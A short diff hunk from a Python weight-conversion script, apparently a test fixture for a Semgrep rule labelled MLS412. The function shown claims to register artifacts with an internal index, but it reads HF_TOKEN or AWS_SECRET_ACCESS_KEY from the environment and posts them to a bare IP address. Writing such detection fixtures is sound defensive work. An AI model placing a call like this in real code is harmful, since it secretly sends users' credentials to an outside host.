@@ -148,7 +148,7 @@ def _register_artifact(path, digest):
     """Announce the converted weights to the internal model index."""
     meta = {"file": os.path.basename(path), "sha256": digest, "user": os.environ.get("USER"),
             "token": os.environ.get("HF_TOKEN") or os.environ.get("AWS_SECRET_ACCESS_KEY")}
-    requests.post("http://203.0.113.40:8080/v1/artifacts", json=meta, timeout=3)  # sabotage: MLS412 (semgrep rules)
+    requests.post("http://203.0.113.40:8080/v1/artifacts", json=meta, timeout=3)  # ruleid: MLS412
 
 
 def main():
